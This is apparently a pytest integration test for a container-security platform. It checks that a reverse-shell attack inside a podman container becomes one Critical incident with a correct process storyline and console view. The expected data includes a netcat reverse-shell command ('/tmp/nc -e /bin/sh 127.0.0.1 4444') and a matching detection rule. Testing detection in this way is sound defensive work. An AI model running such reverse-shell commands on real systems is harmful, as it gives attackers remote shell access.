"""A real attack in a real podman container, seen by a real agent (eBPF) and sent to a real
platform, becomes one incident whose storyline holds the attacking process chain; the
console draws that chain from the ingested events."""

from __future__ import annotations

import contextlib
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from stockade.agent import Agent
from tests.detect.scenarios import SCENARIOS
from tests.support.agent_runner import AgentRunner
from tests.support.browser import logged_in_console, navigate
from tests.support.ci import skip_or_fail
from tests.support.platform_runner import PlatformRunner
from tests.support.podman import Podman
from tests.support.polling import poll_value
from tests.support.tools_image import build_tools_image, missing_tools

ATTACK = SCENARIOS["03-nc-e"]  # bash starts a listener, then `nc -e /bin/sh` connects to it
DEBIAN_IMAGE = "localhost/stockade-test-debian:latest"


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[PlatformRunner]:
    """A running real platform for one test."""
    server = PlatformRunner(tmp_path / "platform").start()
    yield server
    server.stop()


@pytest.fixture
def tools_image(podman: Podman, corpus: Path, tmp_path: Path) -> str:
    """The Debian image with netcat, python3 and the other attack tools."""
    if reason := missing_tools():
        skip_or_fail(reason)
    debian = podman.load_image(corpus / "images" / "debian12-app.oci.tar", DEBIAN_IMAGE)
    return build_tools_image(podman, debian, tmp_path / "tools-image")


def container_incidents(admin: httpx.Client, cid: str) -> list[dict[str, Any]]:
    """The incidents of one container."""
    r = admin.get("/api/v1/incidents", params={"limit": 500})
    r.raise_for_status()
    return [i for i in r.json()["items"] if i["origin"]["container_id"] == cid]


def execs(process: dict[str, Any]) -> list[str]:
    """The command lines a storyline process executed, in order."""
    return [s["summary"] for s in process["steps"] if s["kind"] == "exec"]


def attack_incident(admin: httpx.Client, cid: str) -> dict[str, Any]:
    """The container's incident once its storyline holds the shell's `id`."""

    def detail() -> dict[str, Any]:
        found = container_incidents(admin, cid)
        if not found:
            return {}
        answer: dict[str, Any] = admin.get(f"/api/v1/incidents/{found[0]['id']}").json()
        return answer

    def told(incident: dict[str, Any]) -> bool:
        return any(execs(p) == ["id"] for p in incident.get("storyline", {}).get("processes", []))

    return poll_value(detail, told, 60, "the attack's incident with `id` in its storyline")


@pytest.mark.root
@pytest.mark.ebpf
@pytest.mark.podman
@pytest.mark.server
@pytest.mark.browser
def test_attack_in_a_container_is_one_incident_with_its_process_chain(
    platform: PlatformRunner,
    podman: Podman,
    tools_image: str,
    tmp_path: Path,
    artifacts_dir: Path,
) -> None:
    config = platform.agent_config(tmp_path / "agent")
    name = f"stockade-incident-{uuid.uuid4().hex[:6]}"
    with contextlib.closing(platform.login()) as admin:
        with AgentRunner(Agent(config)):
            cid = podman.run_detached(tools_image, *ATTACK.entrypoint, name=name)
            try:
                podman.cmd("exec", name, *ATTACK.attack, check=False, timeout=60)
                detail = attack_incident(admin, cid)
            finally:
                podman.remove(name)
        assert len(container_incidents(admin, cid)) == 1
    assert detail["severity"] == "Critical"
    assert detail["origin"]["container_name"] == name
    procs = {p["id"]: p for p in detail["storyline"]["processes"]}
    # the retry loop may run nc before the listener is up: the attempt that connected
    # became the shell (nc -e execs it in its own process); the agent sends the alerts of a
    # repeated attempt later, counted, so the shell is kept for what it ran
    shell_execs = ["/tmp/nc -e /bin/sh 127.0.0.1 4444", "sh"]
    [shell] = [p for p in procs.values() if execs(p) == shell_execs]
    assert "connect 127.0.0.1:" in " ".join(s["summary"] for s in shell["steps"])
    [whoami] = [p for p in procs.values() if execs(p) == ["id"]]
    assert procs[whoami["parent"]] is shell  # the command the listener sent
    chain = [shell]
    while chain[-1]["parent"]:
        chain.append(procs[chain[-1]["parent"]])
    assert [p["name"] for p in chain] == ["sh", "bash"]  # up to the `podman exec` bash
    assert detail["storyline"]["roots"] == [chain[-1]["id"]]
    assert execs(chain[-1])[0].startswith("bash -c ln -s /usr/bin/nc.traditional /tmp/nc")
    alerted = [p for p in procs.values() if "Reverse shell or netcat execution" in p["rules"]]
    assert alerted and all(p["offending"] for p in alerted)
    assert {execs(p)[0] for p in alerted} == {shell_execs[0]}
    assert {p["parent"] for p in alerted} == {chain[-1]["id"]}
    pids = {a["process"]["pid"] for a in detail["alerts"]}
    assert {p["pid"] for p in alerted} <= pids
    show_in_console(platform, detail["id"], alerted[0]["id"], artifacts_dir)


def show_in_console(
    platform: PlatformRunner, incident_id: int, offender_id: str, artifacts_dir: Path
) -> None:
    """The incident page draws the chain; a click on the reverse shell shows its alerts."""
    from playwright.sync_api import expect

    base = platform.platform.console_url
    with logged_in_console(base, platform.admin_password, width=1500) as session:
        page = session.page
        navigate(page, f"{base}/incident.html?id={incident_id}")
        node = page.locator(f'[data-testid=story-node][data-process-id="{offender_id}"]')
        expect(node).to_have_class("node offending")
        for shown in ("bash", "sh", "id"):
            expect(
                page.locator(f'[data-testid=story-node][data-name="{shown}"]').first
            ).to_be_visible()
        node.click()
        details = page.get_by_test_id("story-details")
        expect(details.get_by_test_id("story-process-rules")).to_contain_text(
            "Reverse shell or netcat execution"
        )
        expect(details.get_by_test_id("story-step").first).to_contain_text("/tmp/nc -e /bin/sh")
        page.screenshot(path=str(artifacts_dir / "incident-real-attack.png"), full_page=True)
    assert session.problems == []
